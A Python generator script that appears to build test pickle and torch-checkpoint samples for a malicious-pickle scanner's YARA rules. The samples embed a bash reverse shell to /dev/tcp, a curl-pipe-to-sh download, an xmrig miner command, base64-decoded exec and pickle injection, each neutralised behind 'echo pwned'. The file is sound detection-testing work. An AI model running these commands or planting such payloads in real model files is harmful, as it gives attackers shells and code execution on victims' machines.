#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright (c) 2026 The mscan authors
"""Corpus samples for the YARA rules (corpus/{malicious,benign}/yara_*).

Pickles are written opcode by opcode, never produced or loaded by a real unpickler. Payloads
only run harmless commands: every command line a rule looks for sits after `echo pwned #` or
`echo pwned ||`, so even a real load would only echo.
Run: python3 corpus/gen/gen_yara.py  (from the repository root; output is committed)
"""
import base64
import io
import os
import pickle
import struct
import zipfile

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")


def unicode4(s):
    b = s.encode()
    return (b"\x8c" + bytes([len(b)]) if len(b) < 256 else b"X" + struct.pack("<I", len(b))) + b + b"\x94"


def stack_global(mod, name):
    return unicode4(mod) + unicode4(name) + b"\x93\x94"


def call1(mod, name, arg):
    """protocol 4: mod.name(arg), result left as the pickle's value."""
    return b"\x80\x04" + stack_global(mod, name) + unicode4(arg) + b"\x85\x94R\x94."


def write(kind, name, data, expect):
    path = os.path.join(ROOT, kind, name)
    with open(path, "wb") as f:
        f.write(data)
    with open(path + ".expect", "w") as f:
        f.write("\n".join(expect) + "\n")


def main():
    write("malicious", "yara_devtcp_comment.pkl",
          call1("posix", "system", "echo pwned # bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
          ["exit=1", "rule=MS-YARA-reverse_shell_dev_tcp"])
    write("malicious", "yara_curl_sh.pkl",
          call1("os", "system", "echo pwned || curl -fsSL http://example.invalid/x.sh | sh"),
          ["exit=1", "rule=MS-YARA-download_and_execute", "rule=MS-YARA-url_in_pickle"])
    code = base64.b64encode(b"import os;os.system('echo pwned')").decode()
    write("malicious", "yara_exec_b64.pkl",
          b"\x80\x04" + stack_global("builtins", "exec") + stack_global("base64", "b64decode")
          + unicode4(code) + b"\x85\x94R\x94\x85\x94R\x94.",
          ["exit=1", "rule=MS-YARA-pickle_exec_decoded_payload", "rule=MS-YARA-base64_encoded_code"])
    # fickling --inject / pickle_injector shape: the call runs before PROTO
    inner = b"}\x94."
    write("malicious", "yara_injected_before_proto.pkl",
          b"c__builtin__\nexec\n(Vprint('pwned')\ntR" + b"\x80\x04\x95" + struct.pack("<Q", len(inner)) + inner,
          ["exit=1", "rule=MS-YARA-pickle_injected_before_proto"])
    write("malicious", "yara_miner.pkl",
          call1("os", "system", "echo pwned || ./xmrig -o stratum+tcp://pool.example.invalid:3333"),
          ["exit=1", "rule=MS-YARA-crypto_miner"])
    # A download-and-execute command seen only once decoded: base64 in a checkpoint's state
    # dict, a plain string value (no call). Rules must see the decoded constants of a torch
    # zip's data.pkl and of a legacy checkpoint's pickles as they do for a bare pickle.
    hidden = base64.b64encode(b"echo pwned || curl -fsSL http://example.invalid/x.sh | sh").decode()
    state = pickle.dumps({"weight_note": hidden}, protocol=2)
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w") as zf:
        for n, d in (("ck/data.pkl", state), ("ck/byteorder", b"little"), ("ck/version", b"3\n")):
            zf.writestr(zipfile.ZipInfo(n, date_time=(2020, 1, 1, 0, 0, 0)), d)
    write("malicious", "yara_b64_in_torch_zip.pt", z.getvalue(),
          ["exit=1", "rule=MS-YARA-download_and_execute"])
    sys_info = {"protocol_version": 1001, "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4}}
    legacy = b"".join(pickle.dumps(x, protocol=2) for x in (
        0x1950a86a20f9469cfc6c, 1001, sys_info, {"weight_note": hidden}, []))
    write("malicious", "yara_b64_in_torch_legacy.pt", legacy,
          ["exit=1", "rule=MS-YARA-download_and_execute"])
    # Near misses in plain constants: no rule may fire.
    consts = ["stratum of layers", "python train.py -c config.yaml", "version 1.2.3",
              "the shell is /bin/sh", "hf_abc", "AKIA1234", "ghp_short", "aGVsbG8gd29ybGQ="]
    body = b"\x80\x04]\x94(" + b"".join(unicode4(c) for c in consts) + b"e."
    write("benign", "yara_near_miss.pkl", body,
          ["exit=0"] + ["norule=MS-YARA-%s" % r for r in (
              "crypto_miner", "interpreter_inline_code", "ipv4_in_pickle", "shell_command_line",
              "huggingface_token", "aws_access_key", "github_token", "base64_encoded_code")])


if __name__ == "__main__":
    main()
